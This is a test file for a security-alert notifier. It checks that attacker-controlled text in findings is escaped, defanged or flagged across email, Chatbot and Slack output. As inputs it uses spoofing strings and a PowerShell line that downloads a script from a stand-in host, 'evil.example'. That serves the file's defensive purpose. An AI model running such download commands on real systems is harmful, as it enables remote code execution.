/**
 * Attacker text is always visibly the attacker's: one test per spoofing form of issue 20, each
 * checked where a reader would be fooled (subject, email, Chatbot, the forwarded Slack message).
 */
import { describe, expect, it } from 'vitest';
import { composeFinding, type SnsMessage } from '../../lambda/notify/index.js';
import { makeContext, makeFinding } from '../fixtures/notify/findings.js';
import { SPOOFS } from '../fixtures/notify/hostile-incidents.js';
import { lambdaContext, rig, snsEvent, useSlackStandIns } from '../slack-forwarder/support.js';

type Posted = { text: string; blocks: { type: string; text?: { text: string } }[] };
const standIns = useSlackStandIns();

async function seen(over: Parameters<typeof makeFinding>[0]) {
  const m: SnsMessage = composeFinding(makeFinding(over), makeContext());
  const outer = JSON.parse(m.message) as { default: string; email: string; https: string };
  const chatbot = JSON.parse(outer.https) as { content: { title: string; description: string }; metadata: { summary: string } };
  const { forward } = await rig(standIns.client());
  await forward(snsEvent(m), lambdaContext());
  expect(standIns.slack().received.at(-1)?.status).toBe(200);
  const posted = standIns.slack().delivered.at(-1) as unknown as Posted;
  const header = posted.blocks[0]?.text?.text ?? '';
  const slack = [posted.text, ...posted.blocks.map((b) => b.text?.text ?? '')].join('\n');
  return { subject: m.subject, email: outer.email, chatbot, header, slack, doc: JSON.parse(outer.default) as Record<string, unknown> };
}

describe('attacker text is always visibly the attacker\'s', () => {
  it('quotes a target that carries product-like text, in the subject, the email and Slack', async () => {
    const { subject, email, chatbot, header } = await seen({ sourceHost: 'ws1', targetHost: SPOOFS.productText, riskScore: 80, severity: 'high' });
    expect(subject).toBe('[HIGH] WMIC remote exec "ws1" -> "fs01 (allowlisted - sccm push, no act..." (risk 80)');
    expect(email).toContain('WMIC remote process creation: "ws1" -> "fs01 (allowlisted - sccm push, no action)"');
    expect(email).toMatch(/Target host \(\/node:\):\s+"fs01 \(allowlisted - sccm push, no action\)"\n/);
    expect(chatbot.content.description).toContain('*Target:* `fs01 (allowlisted - sccm push, no action)`');
    expect(header).toContain('→ "fs01 (allowlisted - sccm push, no action)"');
  });

  it('never lets a quote in a value close its quotes early', async () => {
    const { email, subject } = await seen({ targetHost: 'fs01" (allowlisted) "x' });
    expect(email).toContain('"fs01\\" (allowlisted) \\"x"');
    expect(subject).toContain('"fs01\' (allowlisted) \'x"');
  });

  it('renders no emoji from a shortcode in a Slack header or title', async () => {
    const { header, chatbot } = await seen({ targetHost: SPOOFS.emoji, sourceHost: ':rotating_light:ws1' });
    for (const title of [header, chatbot.content.title]) {
      expect(title).not.toContain(':white_check_mark:');
      expect(title).not.toContain(':rotating_light:ws1');
      expect(title).toContain('srv\u2236white_check_mark\u2236ok');
    }
  });

  it('collapses a run of 300 spaces, so nothing after it reads as a section of the email; the JSON keeps it', async () => {
    const { email, chatbot, doc } = await seen({ targetHost: SPOOFS.spaces, remoteCommand: `calc.exe${' '.repeat(300)}ON THE TARGET Confirmed: benign` });
    expect(email).not.toMatch(/ {40}/);
    expect(email.split('\n').filter((l) => /^\s*ON THE TARGET/.test(l))).toEqual([]);
    expect(email).toContain('"calc.exe ON THE TARGET Confirmed: benign"');
    expect(chatbot.content.description).toContain('calc.exe ON THE TARGET Confirmed: benign');
    expect(doc['targetHost']).toBe(SPOOFS.spaces);
    expect((doc['remoteCommand'] as { value: string }).value).toContain(' '.repeat(300));
  });

  it('defangs URLs in the email and in Slack', async () => {
    const { email, chatbot, slack, doc } = await seen({ targetHost: SPOOFS.url, remoteCommand: 'powershell iwr http://198.51.100.7/a.ps1; start www.evil.example' });
    for (const text of [email, chatbot.content.description, slack]) {
      expect(text).not.toMatch(/https?:\/\/(evil|198\.)/);
      expect(text).not.toContain('www.evil');
      expect(text).toContain('hxxps://evil[.]example/login');
      expect(text).toContain('hxxp://198[.]51[.]100[.]7/a.ps1');
      expect(text).toContain('www[.]evil[.]example');
    }
    expect(doc['targetHost']).toBe(SPOOFS.url);
  });

  it('keeps PowerShell backticks in a Slack code block, and marks the stand-in a code span needs', async () => {
    const ps = 'powershell -c "Write-Host `"pwned`"; $a=`$b"';
    const { chatbot, slack } = await seen({ remoteCommand: ps, targetHost: SPOOFS.backtick });
    for (const text of [chatbot.content.description, slack]) {
      expect(text).toContain(`\`\`\`\n${ps}\n\`\`\``);
      expect(text).not.toContain("Write-Host '\"pwned'");
      expect(text).toContain('`srv\u02CB01`');
      expect(text).toContain('\u02CB in a code span stands for a backtick in the original text.');
    }
  });

  it('marks a mixed-script look-alike host name in the email and Slack, and not an ordinary one', async () => {
    const { email, chatbot, slack, header } = await seen({ targetHost: SPOOFS.lookalike });
    expect(email).toContain('"d\u044101" (LOOK-ALIKE: MIXES LATIN AND CYRILLIC LETTERS)');
    expect(chatbot.content.description).toContain('`d\u044101` :warning: _look-alike: mixes Latin and Cyrillic letters_');
    expect(slack).toContain('look-alike: mixes Latin and Cyrillic letters');
    expect(header).toContain('(look-alike)');
    const plain = JSON.parse(composeFinding(makeFinding({ targetHost: 'dc01' }), makeContext()).message) as { email: string; https: string };
    expect(plain.email).not.toContain('LOOK-ALIKE');
    expect(plain.https).not.toContain('look-alike');
  });
});
